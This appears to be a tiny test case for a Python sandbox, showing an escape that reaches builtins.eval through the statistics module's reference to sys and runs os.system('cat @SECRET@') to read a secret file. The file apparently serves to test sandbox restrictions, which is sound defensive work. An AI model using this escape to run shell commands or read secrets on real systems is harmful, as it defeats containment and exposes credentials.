# statistics keeps sys, and through it builtins.
# effect: run
import statistics
statistics.sys.modules["builtins"].eval("__import__('os').system('cat @SECRET@')")
